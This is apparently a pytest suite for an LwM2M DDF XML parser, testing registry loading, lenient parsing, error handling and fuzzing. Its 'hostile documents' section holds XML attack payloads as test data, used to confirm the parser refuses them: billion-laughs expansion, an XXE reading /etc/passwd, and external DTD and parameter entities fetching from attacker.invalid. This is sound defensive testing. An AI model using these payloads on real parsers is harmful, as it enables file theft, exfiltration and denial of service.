"""Tests for lwm2md.model.ddf: the DDF XML loader."""

from __future__ import annotations

import contextlib
import dataclasses
import logging
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lwm2md.model import ddf
from lwm2md.model.builtin_objects import BUILTIN_OBJECTS
from lwm2md.model.ddf import DdfError, load_directory, parse_ddf
from lwm2md.model.types import ObjectDef, Operations, ResourceType

REGISTRY = Path(__file__).parents[2].parent / "shared" / "oma-registry"
needs_registry = pytest.mark.skipif(
    not REGISTRY.is_dir(), reason=f"official OMA registry files not present at {REGISTRY}"
)


def _doc(*objects: str, root: str = "<LWM2M>") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{root}' + "".join(objects) + "</LWM2M>").encode()


def _obj(oid: str = "40000", extra: str = "", items: str = "") -> str:
    return f"""
  <Object ObjectType="MODefinition">
    <Name>Test Object</Name>
    <ObjectID>{oid}</ObjectID>
    <MultipleInstances>Multiple</MultipleInstances>
    <Mandatory>Optional</Mandatory>
    {extra}
    <Resources>{items}</Resources>
  </Object>"""


def _item(rid: str = "0", ops: str = "R", rtype: str = "String", extra: str = "") -> str:
    return f"""
      <Item ID="{rid}"><Name>Res {rid}</Name><Operations>{ops}</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Mandatory</Mandatory>
        <Type>{rtype}</Type>{extra}</Item>"""


def _without_descriptions(defn: ObjectDef) -> ObjectDef:
    return dataclasses.replace(
        defn,
        description="",
        resources={rid: dataclasses.replace(res, description="") for rid, res in defn.resources.items()},
    )


# --- the official registry -------------------------------------------------------------


@needs_registry
def test_registry_directory_loads_without_crashing() -> None:
    files = sorted(REGISTRY.glob("*.xml"))
    objects, errors = load_directory(REGISTRY)
    problems = [str(err) for err in errors]
    print(f"{len(objects)} objects from {len(files)} files; problems:", *problems, sep="\n  ")
    assert all(isinstance(err, DdfError) for err in errors)
    failed = {err.source for err in errors}
    assert len(failed) == len(errors), "one error per failing file"
    assert len(files) - len(failed) >= 0.95 * len(files), problems
    assert len(objects) >= len(files) - len(failed)
    # Every object file named <oid>.xml that loaded holds that oid.
    by_oid = {o.oid for o in objects}
    for file in files:
        if file.stem.isdigit() and str(file) not in failed:
            assert int(file.stem) in by_oid, file


@needs_registry
def test_registry_files_individually() -> None:
    """parse_ddf on each file either returns objects or raises DdfError, nothing else."""
    outcomes: dict[str, int] = {"objects": 0, "errors": 0}
    for file in sorted(REGISTRY.glob("*.xml")):
        try:
            defs = parse_ddf(file.read_bytes(), file.name)
        except DdfError as err:
            assert err.source == file.name
            outcomes["errors"] += 1
        else:
            assert defs
            outcomes["objects"] += 1
    assert outcomes["objects"] > 10 * outcomes["errors"]


@needs_registry
@pytest.mark.parametrize("builtin", BUILTIN_OBJECTS, ids=lambda d: str(d.oid))
def test_official_file_parses_to_builtin_definition(builtin: ObjectDef) -> None:
    (parsed,) = parse_ddf((REGISTRY / f"{builtin.oid}.xml").read_bytes(), f"{builtin.oid}.xml")
    assert parsed.description  # descriptions are carried, only not compared
    assert _without_descriptions(parsed) == _without_descriptions(builtin)


# --- lenient reading -------------------------------------------------------------------


def test_several_objects_in_one_document() -> None:
    defs = parse_ddf(_doc(_obj("40000"), _obj("40001")), "two.xml")
    assert [d.oid for d in defs] == [40000, 40001]


def test_namespaced_root_and_cdata() -> None:
    data = _doc(
        _obj(items='<Item ID="1"><Name><![CDATA[Odd <name>]]></Name>'
             "<Operations>RW</Operations><Type>Integer</Type></Item>"),
        root='<LWM2M xmlns="urn:example:ddf" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">',
    )  # fmt: skip
    (defn,) = parse_ddf(data, "ns.xml")
    assert defn.resources[1].name == "Odd <name>"
    assert defn.resources[1].operations == Operations.RW


def test_missing_optional_fields_take_defaults() -> None:
    data = _doc("<Object><ObjectID>40000</ObjectID></Object>")
    (defn,) = parse_ddf(data, "bare.xml")
    assert defn == ObjectDef(
        oid=40000, name="", multiple=False, mandatory=False, version="1.0", lwm2m_version="1.0"
    )
    bare_item = '<Item ID="3"><Operations>E</Operations></Item>'
    (defn,) = parse_ddf(_doc(_obj(items=bare_item)), "bare-item.xml")
    res = defn.resources[3]
    assert (res.name, res.multiple, res.mandatory, res.type) == ("", False, False, ResourceType.NONE)
    assert (res.range_enumeration, res.units, res.description) == ("", "", "")


def test_whitespace_and_case_are_tolerated() -> None:
    obj = """<Object>
      <Name>
         Spaced    Name
      </Name>
      <ObjectID> 40000 </ObjectID>
      <ObjectVersion> 2.1 </ObjectVersion>
      <LWM2MVersion>1.1</LWM2MVersion>
      <MultipleInstances> multiple </MultipleInstances>
      <Mandatory>MANDATORY</Mandatory>
      <ObjectURN> urn:oma:lwm2m:x:40000:2.1 </ObjectURN>
      <Resources>
        <Item ID=" 7 "><Name>A</Name><Operations> rw </Operations>
          <MultipleInstances>true</MultipleInstances><Mandatory>false</Mandatory>
          <Type> unsigned   integer </Type><RangeEnumeration> 0..10 </RangeEnumeration>
          <Units> s </Units></Item>
      </Resources></Object>"""
    (defn,) = parse_ddf(_doc(obj), "spaced.xml")
    assert (defn.oid, defn.name, defn.version, defn.lwm2m_version) == (
        40000, "Spaced Name", "2.1", "1.1",
    )  # fmt: skip
    assert defn.multiple and defn.mandatory
    assert defn.urn == "urn:oma:lwm2m:x:40000:2.1"
    res = defn.resources[7]
    assert res.operations == Operations.RW
    assert res.multiple and not res.mandatory
    assert (res.type, res.range_enumeration, res.units) == (ResourceType.UNSIGNED, "0..10", "s")


@pytest.mark.parametrize(
    ("spelling", "expected"),
    [
        ("String", ResourceType.STRING),
        ("Integer", ResourceType.INTEGER),
        ("Unsigned Integer", ResourceType.UNSIGNED),
        ("UnsignedInteger", ResourceType.UNSIGNED),
        ("unsigned_integer", ResourceType.UNSIGNED),
        ("Float", ResourceType.FLOAT),
        ("Boolean", ResourceType.BOOLEAN),
        ("Opaque", ResourceType.OPAQUE),
        ("Time", ResourceType.TIME),
        ("Objlnk", ResourceType.OBJLNK),
        ("ObjLnk", ResourceType.OBJLNK),
        ("Corelnk", ResourceType.CORELNK),
        ("CoreLnk", ResourceType.CORELNK),
        ("none", ResourceType.NONE),
        ("", ResourceType.NONE),
    ],
)
def test_type_spellings(spelling: str, expected: ResourceType) -> None:
    ops = "E" if expected is ResourceType.NONE else "R"
    (defn,) = parse_ddf(_doc(_obj(items=_item("1", ops, spelling))), "types.xml")
    assert defn.resources[1].type is expected


def test_unknown_type_is_opaque_and_logged(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger=ddf.LOG.name):
        (defn,) = parse_ddf(_doc(_obj(items=_item("9", "R", "Decimal128"))), "odd.xml")
    assert defn.resources[9].type is ResourceType.OPAQUE
    assert "Decimal128" in caplog.text and "/40000/9" in caplog.text


def test_empty_operations_is_none() -> None:
    (defn,) = parse_ddf(_doc(_obj(items=_item("0", "", "Opaque"))), "sec.xml")
    assert defn.resources[0].operations == Operations.NONE


def test_empty_resources_and_unknown_children_ignored() -> None:
    data = _doc(_obj(extra="<Description2>x</Description2><Vendor>y</Vendor>",
                     items="<Note>not an item</Note>"))  # fmt: skip
    (defn,) = parse_ddf(data, "empty.xml")
    assert defn.resources == {}


def test_description_is_kept_verbatim_but_stripped() -> None:
    data = _doc(_obj(extra="<Description1>\n  Line one.\nLine two.  </Description1>"))
    (defn,) = parse_ddf(data, "d.xml")
    assert defn.description == "Line one.\nLine two."


# --- broken documents ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "well-formed"),
        (b"not xml at all", "well-formed"),
        (_doc(_obj())[:-20], "well-formed"),
        (b"<LWM2M><Object></LWM2M>", "well-formed"),
        (b'<?xml version="1.0" encoding="no-such-codec"?><LWM2M/>', "unsupported encoding"),
        (b'<?xml version="1.0" encoding="shift_jis"?><LWM2M/>', "unsupported encoding"),
        (b'<?xml version="1.0" encoding="UTF-7"?><LWM2M/>', "unsupported encoding"),
        (b"<DDFList><Item/></DDFList>", "root element"),
        (b"<LWM2M/>", "no <Object>"),
        (b"<LWM2M><Comment/></LWM2M>", "no <Object>"),
        (_doc("<Object><Name>x</Name></Object>"), "ObjectID is missing"),
        (_doc(_obj("abc")), "not an ID"),
        (_doc(_obj("-1")), "not an ID"),
        (_doc(_obj("65536")), "not an ID"),
        (_doc(_obj("\uff13")), "not an ID"),
        (_doc('<Object ObjectType="CommonResources"><Resources/></Object>'), "ObjectType"),
        (_doc(_obj(), _obj()), "defined twice"),
        (_doc(_obj(items=_item("1") + _item("1"))), "resource 1 defined twice"),
        (_doc(_obj(items=_item(""))), "resource ID is missing"),
        (_doc(_obj(items=_item("x"))), "not an ID"),
        (_doc(_obj(items=_item("70000"))), "not an ID"),
        (_doc(_obj(items=_item("2", ops="RX"))), "/40000/2"),
        (_doc(_obj(extra="<ObjectVersion>one</ObjectVersion>")), "ObjectVersion"),
        (_doc(_obj(extra="<LWM2MVersion>1</LWM2MVersion>")), "LWM2MVersion"),
        (_doc("<Object><ObjectID>1</ObjectID><Mandatory>Maybe</Mandatory></Object>"), "Maybe"),
        (
            _doc(_obj(items='<Item ID="4"><MultipleInstances>Several</MultipleInstances></Item>')),
            "/40000/4: MultipleInstances",
        ),
    ],
)
def test_broken_documents_raise_ddf_error(data: bytes, reason: str) -> None:
    with pytest.raises(DdfError) as info:
        parse_ddf(data, "broken.xml")
    assert info.value.source == "broken.xml"
    assert reason in info.value.reason
    assert str(info.value) == f"broken.xml: {info.value.reason}"


def test_oversized_document_refused_unparsed() -> None:
    data = b"<LWM2M>" + b" " * ddf.MAX_DDF_BYTES + b"</LWM2M>"
    with pytest.raises(DdfError, match="larger than"):
        parse_ddf(data, "big.xml")


@settings(max_examples=300)
@given(st.binary(max_size=512))
def test_arbitrary_bytes_raise_only_ddf_error(data: bytes) -> None:
    with contextlib.suppress(DdfError):
        parse_ddf(data, "fuzz.xml")


_VALID = _doc(_obj(items=_item("0") + _item("1", "E", "") + _item("2", "RW", "Float")))


@settings(max_examples=500)
@given(st.data())
def test_mangled_valid_document_raises_only_ddf_error(data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(_VALID)))
    end = data.draw(st.integers(start, min(len(_VALID), start + 40)))
    filler = data.draw(st.sampled_from([b"", b"<", b">", b"&", b"\x00", b"]]>", b"<!--", b"7"]))
    with contextlib.suppress(DdfError):
        parse_ddf(_VALID[:start] + filler + _VALID[end:], "mangled.xml")


# --- hostile documents -----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<LWM2M><Object><Name>&lol9;</Name><ObjectID>40000</ObjectID></Object></LWM2M>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<LWM2M><Object><Name>&secret;</Name><ObjectID>40000</ObjectID></Object></LWM2M>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M SYSTEM "http://attacker.invalid/evil.dtd">
<LWM2M><Object><ObjectID>40000</ObjectID></Object></LWM2M>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<LWM2M><Object><ObjectID>40000</ObjectID></Object></LWM2M>
"""

HARMLESS_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M>
<LWM2M><Object><ObjectID>40000</ObjectID></Object></LWM2M>
"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        HARMLESS_DOCTYPE,
        # The same attack in UTF-16 defeats a naive byte search for "<!DOCTYPE".
        EXTERNAL_ENTITY.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "doctype",
         "utf16-external-entity"],
)  # fmt: skip
def test_hostile_documents_refused(data: bytes) -> None:
    with pytest.raises(DdfError, match="not accepted") as info:
        parse_ddf(data, "hostile.xml")
    assert "root:" not in str(info.value)  # nothing from /etc/passwd leaked into the message


def test_utf16_without_dtd_still_parses() -> None:
    text = _doc(_obj()).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    (defn,) = parse_ddf(text.encode("utf-16"), "u16.xml")
    assert defn.oid == 40000


# --- load_directory --------------------------------------------------------------------


def test_load_directory_collects_objects_and_problems(tmp_path: Path) -> None:
    (tmp_path / "a.xml").write_bytes(_doc(_obj("40000")))
    (tmp_path / "B.XML").write_bytes(_doc(_obj("40001"), _obj("40002")))
    (tmp_path / "c.xml").write_bytes(b"<LWM2M><Object>")
    (tmp_path / "d.xml").write_bytes(BILLION_LAUGHS)
    (tmp_path / "notes.txt").write_bytes(b"ignored")
    (tmp_path / "sub.xml").mkdir()
    (tmp_path / "sub.xml" / "e.xml").write_bytes(_doc(_obj("40009")))
    objects, errors = load_directory(tmp_path)
    assert sorted(o.oid for o in objects) == [40000, 40001, 40002]
    assert [Path(e.source).name for e in errors] == ["c.xml", "d.xml"]


def test_load_directory_missing_is_empty(tmp_path: Path) -> None:
    assert load_directory(tmp_path / "absent") == ([], [])


def test_load_directory_on_a_file_reports_it(tmp_path: Path) -> None:
    file = tmp_path / "x.xml"
    file.write_bytes(_doc(_obj()))
    objects, errors = load_directory(str(file))
    assert objects == []
    assert len(errors) == 1 and re.search("not a directory", errors[0].reason)
